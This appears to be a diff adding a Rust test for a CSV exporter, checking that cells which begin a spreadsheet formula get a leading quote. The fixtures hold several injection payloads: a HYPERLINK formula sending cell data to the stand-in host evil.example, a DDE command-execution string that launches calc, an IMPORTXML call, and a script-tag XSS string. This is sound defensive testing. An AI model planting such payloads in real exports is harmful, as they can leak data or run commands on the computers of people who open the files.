@@ -32,3 +32,50 @@ fn hostile_text_stays_well_formed() {
     let rows = csv::entities_csv(&data);
     assert!(rows.contains("\"<script>alert(1)</script>\"") || rows.contains("<script>alert(1)</script>"));
 }
+
+/// A dataset whose names and notes a spreadsheet would run as formulas.
+pub fn formula_dataset() -> alliance_map::model::Dataset {
+    let toml = r#"
+[[source]]
+id = "s"
+title = "S"
+[[entity]]
+id = "a"
+name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
+kind = "company"
+aliases = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "'=already quoted", "'plain"]
+[[entity]]
+id = "b"
+name = "-2+3"
+kind = "company"
+[[entity]]
+id = "c"
+name = "\t=IMPORTXML(A1)"
+kind = "company"
+[[relation]]
+from = "a"
+to = "b"
+type = "partner_of"
+note = "\r=1+1"
+sources = ["s"]
+"#;
+    let checked = alliance_map::check::check(toml);
+    checked.dataset.unwrap_or_else(|| panic!("{:#?}", checked.diagnostics))
+}
+
+#[test]
+fn csv_cells_that_start_a_formula_get_a_leading_quote() {
+    let data = formula_dataset();
+    let entities = csv::entities_csv(&data);
+    assert!(entities.contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\","), "{entities}");
+    assert!(entities.contains(",'-2+3,"), "{entities}");
+    assert!(entities.contains(",'\t=IMPORTXML(A1),"), "{entities}");
+    assert!(entities.contains(",'+cmd|' /C calc'!A0;@SUM(1+1);'=already quoted;'plain\r\n"), "aliases are one cell, which starts with +: {entities}");
+    let relations = csv::relations_csv(&data);
+    assert!(relations.ends_with(",\"'\r=1+1\"\r\n"), "{relations}");
+    for line in entities.lines().chain(relations.lines()).skip(1) {
+        for cell in line.split(',') {
+            assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {line:?}");
+        }
+    }
+}
